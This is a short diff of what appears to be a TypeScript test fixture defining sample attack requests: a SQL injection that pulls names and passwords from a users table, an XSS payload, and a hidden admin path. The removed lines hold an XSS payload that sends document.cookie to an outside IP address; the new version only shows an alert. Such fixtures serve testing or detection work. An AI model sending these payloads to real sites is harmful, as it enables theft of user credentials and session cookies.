@@ -24,11 +24,7 @@ export const VERSION_PROBE: HttpRequest = {
 };
 
 const SQLI = request('sqli', "/search?q=' UNION SELECT name, password FROM users--", 'curl/7.88.1');
-const XSS = request(
-  'xss',
-  `/search?q=<script>new Image().src='//203.0.113.66/?'+document.cookie</script>`,
-  'curl/7.88.1',
-);
+const XSS = request('xss', '/search?q=<script>alert(document.cookie)</script>', 'curl/7.88.1');
 
 /** The path that the directory search finds, and its place in the list. */
 const HIDDEN = 'admin';
